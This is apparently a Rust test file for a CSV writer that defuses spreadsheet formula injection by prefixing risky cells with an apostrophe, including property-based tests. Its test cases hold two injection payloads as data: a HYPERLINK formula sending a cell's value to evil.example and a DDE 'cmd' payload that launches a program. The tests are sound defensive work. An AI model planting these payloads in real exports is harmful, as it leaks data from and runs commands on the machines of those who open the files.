use super::*;
use proptest::prelude::*;

/// Reads back every cell of `bytes`, header included.
fn cells(bytes: &[u8]) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes);
    let rows = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect());
    rows.collect()
}

fn starts_a_formula(cell: &str) -> bool {
    let first = cell.trim_start_matches(' ').chars().next();
    first.is_some_and(|c| FORMULA_STARTS.contains(&c)) && !is_plain_number(cell)
}

#[test]
fn formulas_are_neutralised_and_numbers_and_prose_are_not() {
    let cases = [
        (r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#, true),
        ("+cmd|' /C calc'!A0", true),
        ("-2+3", true),
        ("@SUM(A1:A9)", true),
        ("\t=1", true),
        ("\r=1", true),
        ("  =1", true),
        ("\u{FF1D}1+1", true),
        ("-3", false),
        ("+4.5", false),
        ("0.25", false),
        ("sadness", false),
        ("I hear you = you matter", false),
        ("", false),
    ];
    for (text, neutralised) in cases {
        let cell = csv_cell(text);
        assert_eq!(cell != text, neutralised, "{text:?} -> {cell:?}");
        if neutralised {
            assert_eq!(cell, format!("'{text}"));
        }
    }
}

#[derive(serde::Serialize)]
struct Row<'a> {
    id: i64,
    score: f64,
    emotion: &'a str,
    reply: Option<&'a str>,
}

#[test]
fn serde_rows_get_a_header_and_safe_cells_with_rfc_4180_quoting() {
    let mut csv = SafeCsv::from_writer(Vec::new());
    for (id, reply) in [
        (1, Some("=1+1")),
        (-2, Some("a \"quoted\", line\n=2")),
        (3, None),
    ] {
        let row = Row {
            id,
            score: -0.5,
            emotion: "@everyone",
            reply,
        };
        csv.serialize(row).unwrap();
    }
    let read = cells(&csv.into_inner().unwrap());
    assert_eq!(read[0], ["id", "score", "emotion", "reply"]);
    assert_eq!(read[1], ["1", "-0.5", "'@everyone", "'=1+1"]);
    assert_eq!(
        read[2],
        ["-2", "-0.5", "'@everyone", "a \"quoted\", line\n=2"]
    );
    assert_eq!(read[3], ["3", "-0.5", "'@everyone", ""]);
}

#[test]
fn a_writer_without_headers_writes_rows_only() {
    let mut csv = SafeCsv::without_headers(Vec::new());
    csv.serialize(Row {
        id: 1,
        score: 1.0,
        emotion: "calm",
        reply: None,
    })
    .unwrap();
    csv.write_record(["-x", "-1", "+y", "y"]).unwrap();
    csv.flush().unwrap();
    let expected = [vec!["1", "1.0", "calm", ""], vec!["'-x", "-1", "'+y", "y"]];
    assert_eq!(cells(csv.get_ref()), expected);
}

proptest! {
    #[test]
    fn prop_no_cell_starts_a_formula_and_nothing_is_lost(
        row in proptest::collection::vec(
            prop_oneof![any::<String>(), "[=+@\t\r -]{0,3}[a-z0-9(\"=,\n]{0,8}"],
            1..6,
        )
    ) {
        let mut csv = SafeCsv::without_headers(Vec::new());
        csv.write_record(&row).unwrap();
        let read = cells(&csv.into_inner().unwrap());
        // A record of one empty field is written as an empty line, which
        // readers skip; every other record reads back whole.
        if row != [String::new()] {
            prop_assert_eq!(read.len(), 1);
            prop_assert_eq!(read[0].len(), row.len());
            for (cell, text) in read[0].iter().zip(&row) {
                prop_assert!(!starts_a_formula(cell), "{:?}", cell);
                prop_assert!(cell == text || *cell == format!("'{text}"), "{:?} -> {:?}", text, cell);
            }
        }
    }
}
